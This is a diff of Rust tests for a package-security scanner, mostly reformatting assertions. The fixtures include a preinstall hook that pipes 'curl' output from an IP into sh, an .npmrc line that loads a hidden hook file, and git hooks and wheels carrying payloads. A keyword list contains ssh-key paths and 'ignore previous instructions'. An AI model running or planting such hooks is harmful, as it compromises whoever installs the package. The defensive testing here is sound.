@@ -38,8 +38,16 @@ fn python_520_levels_deep_neither_aborts_the_run_nor_passes() {
     assert_eq!(targets.len(), 2, "every target gets its report");
     assert_eq!(targets[1]["verdict"], "block");
     scan.assert_found_without_syntax("deep.py", 523);
-    assert!(scan.incomplete().contains("not analysed in full"), "{}", scan.incomplete());
-    assert!(scan.notes().contains("indentation levels"), "{}", scan.notes());
+    assert!(
+        scan.incomplete().contains("not analysed in full"),
+        "{}",
+        scan.incomplete()
+    );
+    assert!(
+        scan.notes().contains("indentation levels"),
+        "{}",
+        scan.notes()
+    );
     scan.assert_within(&SMALL);
 }
 
@@ -57,12 +65,21 @@ fn javascript_100000_blocks_or_calls_deep_ends_quickly_and_is_not_allowed() {
     write(
         dir.path(),
         "calls.js",
-        format!("{}{}{}\n", "f(".repeat(levels), payload.trim_end_matches(';'), ")".repeat(levels)),
+        format!(
+            "{}{}{}\n",
+            "f(".repeat(levels),
+            payload.trim_end_matches(';'),
+            ")".repeat(levels)
+        ),
     );
     let scan = scan(dir.path());
     scan.assert_found_without_syntax("blocks.js", 1);
     scan.assert_found_without_syntax("calls.js", 1);
-    assert!(scan.incomplete().contains("2 file(s)"), "{}", scan.incomplete());
+    assert!(
+        scan.incomplete().contains("2 file(s)"),
+        "{}",
+        scan.incomplete()
+    );
     scan.assert_within(&SMALL);
 }
 
@@ -113,7 +130,10 @@ fn padded_manifests_are_read_in_full() {
     write(
         skill.path(),
         "setup.py",
-        format!("{}{PY_PAYLOAD}", "# padding line for the reader\n".repeat(330_000)),
+        format!(
+            "{}{PY_PAYLOAD}",
+            "# padding line for the reader\n".repeat(330_000)
+        ),
     );
     let scan = scan_with(skill.path(), &[]);
     assert_ne!(scan.verdict(), "allow", "{:?}", scan.findings());
@@ -169,8 +189,16 @@ fn an_install_script_too_large_to_read_leaves_the_scan_incomplete() {
     data.set_len(9 << 20).unwrap();
     let scan = scan(dir.path());
     assert_eq!(scan.verdict(), "review", "{:?}", scan.findings());
-    assert!(scan.incomplete().contains("setup/big.js"), "{}", scan.incomplete());
-    assert!(!scan.incomplete().contains("data.bin"), "{}", scan.incomplete());
+    assert!(
+        scan.incomplete().contains("setup/big.js"),
+        "{}",
+        scan.incomplete()
+    );
+    assert!(
+        !scan.incomplete().contains("data.bin"),
+        "{}",
+        scan.incomplete()
+    );
     scan.assert_within(&SMALL);
 }
 
@@ -202,7 +230,11 @@ fn a_path_longer_than_the_system_allows_leaves_the_scan_incomplete() {
     }
     let scan = scan(dir.path());
     assert_ne!(scan.verdict(), "allow");
-    assert!(scan.incomplete().contains("could not be read"), "{}", scan.incomplete());
+    assert!(
+        scan.incomplete().contains("could not be read"),
+        "{}",
+        scan.incomplete()
+    );
     scan.assert_within(&SMALL);
 }
 
@@ -279,17 +311,27 @@ fn a_benign_wheel_followed_by_a_malicious_one_is_read_as_pip_reads_it() {
     let dir = package();
     let benign = wheel_of(&[
         ("joined/__init__.py", "VERSION = '1.0'\n"),
-        ("joined-1.0.dist-info/METADATA", "Name: joined\nVersion: 1.0\n"),
+        (
+            "joined-1.0.dist-info/METADATA",
+            "Name: joined\nVersion: 1.0\n",
+        ),
     ]);
     let hostile = wheel_of(&[
         ("joined/__init__.py", PY_PAYLOAD),
-        ("joined-1.0.dist-info/METADATA", "Name: joined\nVersion: 1.0\n"),
+        (
+            "joined-1.0.dist-info/METADATA",
+            "Name: joined\nVersion: 1.0\n",
+        ),
     ]);
     let path = dir.path().join("joined-1.0-py3-none-any.whl");
     std::fs::write(&path, [benign, hostile].concat()).unwrap();
     let scan = scan(&path);
     scan.assert_blocked_at("joined/__init__.py");
-    assert!(scan.has_finding("ARC009", "joined-1.0-py3-none-any.whl"), "{:?}", scan.findings());
+    assert!(
+        scan.has_finding("ARC009", "joined-1.0-py3-none-any.whl"),
+        "{:?}",
+        scan.findings()
+    );
     scan.assert_within(&SMALL);
 }
 
@@ -305,7 +347,11 @@ fn a_wheel_with_bytes_before_it_is_read_and_flagged_not_refused() {
     std::fs::write(&path, bytes).unwrap();
     let scan = scan(&path);
     scan.assert_blocked_at("stub/__init__.py");
-    assert!(scan.has_finding("ARC010", "stub-1.0-py3-none-any.whl"), "{:?}", scan.findings());
+    assert!(
+        scan.has_finding("ARC010", "stub-1.0-py3-none-any.whl"),
+        "{:?}",
+        scan.findings()
+    );
     scan.assert_within(&SMALL);
 }
 
@@ -318,9 +364,30 @@ fn a_lone_7_8_mb_line_of_suspicious_words_in_skill_md_is_linear() {
     // 7.8 MB line with hits all along it took about a minute optimised, over five unoptimised.
     let dir = package();
     let words = [
-        "curl", "http://example.invalid/a", "ignore", "previous", "instructions", "base64", "eval",
-        "sudo", "~/.ssh/id_rsa", "token", "password", ".env", "bash", "|", "process.env", "run",
-        "download", "chmod", "+x", "/tmp/x", "webhook", "203.0.113.5", "memory", "always",
+        "curl",
+        "http://example.invalid/a",
+        "ignore",
+        "previous",
+        "instructions",
+        "base64",
+        "eval",
+        "sudo",
+        "~/.ssh/id_rsa",
+        "token",
+        "password",
+        ".env",
+        "bash",
+        "|",
+        "process.env",
+        "run",
+        "download",
+        "chmod",
+        "+x",
+        "/tmp/x",
+        "webhook",
+        "203.0.113.5",
+        "memory",
+        "always",
     ];
     let mut line = String::with_capacity(7_900_000);
     let mut n = 0usize;
@@ -351,14 +418,30 @@ const GIT_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \
 #[test]
 fn a_shipped_git_config_and_hooks_are_scanned_in_a_folder_and_a_tarball() {
     let dir = package();
-    write(dir.path(), "setup.py", "from setuptools import setup\nsetup(name='g', use_scm_version=True)\n");
+    write(
+        dir.path(),
+        "setup.py",
+        "from setuptools import setup\nsetup(name='g', use_scm_version=True)\n",
+    );
     write(dir.path(), ".git/config", GIT_CONFIG);
-    write(dir.path(), ".git/hooks/post-checkout", format!("#!/bin/sh\n{SH_PAYLOAD}"));
+    write(
+        dir.path(),
+        ".git/hooks/post-checkout",
+        format!("#!/bin/sh\n{SH_PAYLOAD}"),
+    );
     write(dir.path(), ".git/objects/ab/cdef", "not read");
     let scan = scan(dir.path());
     scan.assert_blocked_at(".git/config");
-    assert!(scan.has_finding("SUP018", ".git/config"), "{:?}", scan.findings());
-    assert!(scan.has_finding("SUP019", ".git/hooks/post-checkout"), "{:?}", scan.findings());
+    assert!(
+        scan.has_finding("SUP018", ".git/config"),
+        "{:?}",
+        scan.findings()
+    );
+    assert!(
+        scan.has_finding("SUP019", ".git/hooks/post-checkout"),
+        "{:?}",
+        scan.findings()
+    );
     let reason = scan.skipped_reason(".git").unwrap_or_default();
     assert!(reason.contains("config and hooks"), "{reason}");
     scan.assert_within(&SMALL);
@@ -367,12 +450,19 @@ fn a_shipped_git_config_and_hooks_are_scanned_in_a_folder_and_a_tarball() {
     write_tgz(
         &tgz,
         &[
-            ("g-1.0/setup.py", b"from setuptools import setup\nsetup(name='g')\n".as_slice()),
+            (
+                "g-1.0/setup.py",
+                b"from setuptools import setup\nsetup(name='g')\n".as_slice(),
+            ),
             ("g-1.0/.git/config", GIT_CONFIG.as_bytes()),
         ],
     );
     let scan = scan_with(&tgz, &[]);
-    assert!(scan.has_finding("SUP018", ".git/config"), "{:?}", scan.findings());
+    assert!(
+        scan.has_finding("SUP018", ".git/config"),
+        "{:?}",
+        scan.findings()
+    );
     assert_eq!(scan.verdict(), "block");
 }
 
@@ -384,7 +474,11 @@ fn a_rust_build_script_is_an_install_hook() {
     write_tgz(
         &crate_file,
         &[
-            ("hooked-0.1.0/Cargo.toml", b"[package]\nname = \"hooked\"\nversion = \"0.1.0\"\nbuild = \"tools/gen.rs\"\n".as_slice()),
+            (
+                "hooked-0.1.0/Cargo.toml",
+                b"[package]\nname = \"hooked\"\nversion = \"0.1.0\"\nbuild = \"tools/gen.rs\"\n"
+                    .as_slice(),
+            ),
             ("hooked-0.1.0/tools/gen.rs", build.as_bytes()),
             ("hooked-0.1.0/src/lib.rs", b"pub fn f() {}\n".as_slice()),
         ],
@@ -410,11 +504,23 @@ fn npmrc_and_yarnrc_settings_that_load_code_are_findings() {
         "package.json",
         r#"{"name": "rc", "version": "1.0.0", "scripts": {"test": "node test.js"}}"#,
     );
-    write(dir.path(), ".npmrc", "node-options=--require ./lib/.cache/hook.js\n");
+    write(
+        dir.path(),
+        ".npmrc",
+        "node-options=--require ./lib/.cache/hook.js\n",
+    );
     write(dir.path(), ".yarnrc.yml", "yarnPath: lib/.cache/yarn.cjs\n");
     let scan = scan(dir.path());
-    assert!(scan.has_finding("SUP020", ".npmrc"), "{:?}", scan.findings());
-    assert!(scan.has_finding("SUP021", ".yarnrc.yml"), "{:?}", scan.findings());
+    assert!(
+        scan.has_finding("SUP020", ".npmrc"),
+        "{:?}",
+        scan.findings()
+    );
+    assert!(
+        scan.has_finding("SUP021", ".yarnrc.yml"),
+        "{:?}",
+        scan.findings()
+    );
     assert_eq!(scan.verdict(), "block");
     scan.assert_within(&SMALL);
 }
@@ -460,16 +566,21 @@ fn a_hard_linked_manifest_in_a_tarball_is_the_manifest() {
     let manifest = br#"{"name": "hard", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://198.51.100.4/p.sh | sh"}}"#;
     let path = dir.path().join("hard-1.0.0.tgz");
     let file = std::fs::File::create(&path).unwrap();
-    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(file, flate2::Compression::default()));
+    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
+        file,
+        flate2::Compression::default(),
+    ));
     let mut header = tar::Header::new_gnu();
     header.set_size(manifest.len() as u64);
     header.set_mode(0o644);
-    tar.append_data(&mut header, "package/manifest.json", manifest.as_slice()).unwrap();
+    tar.append_data(&mut header, "package/manifest.json", manifest.as_slice())
+        .unwrap();
     let mut header = tar::Header::new_gnu();
     header.set_entry_type(tar::EntryType::Link);
     header.set_size(0);
     header.set_mode(0o644);
-    tar.append_link(&mut header, "package/package.json", "package/manifest.json").unwrap();
+    tar.append_link(&mut header, "package/package.json", "package/manifest.json")
+        .unwrap();
     tar.into_inner().unwrap().finish().unwrap();
     let scan = scan(&path);
     assert_eq!(
